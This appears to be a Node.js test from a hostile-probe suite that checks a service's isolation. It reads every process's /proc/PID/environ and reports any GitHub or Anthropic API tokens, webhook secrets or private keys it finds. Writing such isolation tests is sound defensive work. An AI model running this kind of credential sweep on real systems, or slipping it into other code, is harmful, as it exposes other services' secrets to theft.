import fs from 'node:fs';
import test from 'node:test';
import { hexHead, report } from '../lib/hostile.mjs';

// Case 2: every process's environment, looking for the service's credentials.

const WANTED = /^(GITHUB_TOKEN|ANTHROPIC_API_KEY|GITHUB_WEBHOOK_SECRET|GITHUB_PRIVATE_KEY)=/;

test('reads other processes’ environments', () => {
  const pids = fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d));
  let readable = 0;
  const found = [];
  for (const pid of pids) {
    let environ;
    try {
      environ = fs.readFileSync(`/proc/${pid}/environ`, 'latin1');
    } catch {
      continue;
    }
    readable++;
    for (const entry of environ.split('\0')) {
      const hit = WANTED.exec(entry);
      if (hit) found.push({ pid: Number(pid), key: hit[1], value: hexHead(entry.slice(hit[0].length)) });
    }
  }
  for (const f of found) report('environ', f);
  report('environ-scan', { pids: pids.length, readable, found: found.length });
});
